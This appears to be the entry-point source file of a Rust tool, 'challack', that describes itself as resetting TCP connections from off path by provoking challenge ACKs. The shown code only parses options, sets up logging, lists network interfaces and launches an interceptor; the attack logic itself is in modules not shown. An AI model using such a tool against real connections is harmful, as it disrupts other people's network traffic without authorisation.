//! `challack`: reset a TCP flow from off path via a provoked challenge ACK

use challack_capture::{list_capture_interfaces, list_interfaces, PcapOpener};
use challack_cli::{Cli, Commands};
use challack_core::Result;
use challack_intercept::Interceptor;
use tracing::{error, info};
use tracing_subscriber::EnvFilter;

#[tokio::main]
async fn main() {
    let cli = Cli::parse_args();

    // RUST_LOG overrides -v
    let filter =
        EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(cli.log_level()));
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .with_writer(std::io::stderr)
        .init();

    if let Err(e) = run(&cli).await {
        error!(kind = e.kind(), "{}", e);
        std::process::exit(1);
    }
}

async fn run(cli: &Cli) -> Result<()> {
    match &cli.command {
        Some(Commands::Interfaces { all }) => show_interfaces(*all),
        None => intercept(cli).await,
    }
}

fn show_interfaces(all: bool) -> Result<()> {
    let interfaces = if all {
        list_interfaces()?
    } else {
        list_capture_interfaces()?
    };

    for iface in &interfaces {
        println!("{}", iface);
    }
    Ok(())
}

async fn intercept(cli: &Cli) -> Result<()> {
    let config = cli.to_config()?;
    let interceptor = Interceptor::new(config, PcapOpener::new());

    info!(
        id = %interceptor.id(),
        device = interceptor.config().device(),
        retry = interceptor.config().retry(),
        "{}intercepting",
        interceptor.config().tuple()
    );

    let report = interceptor.intercept().await?;
    info!("{}", report);
    info!("end");
    Ok(())
}
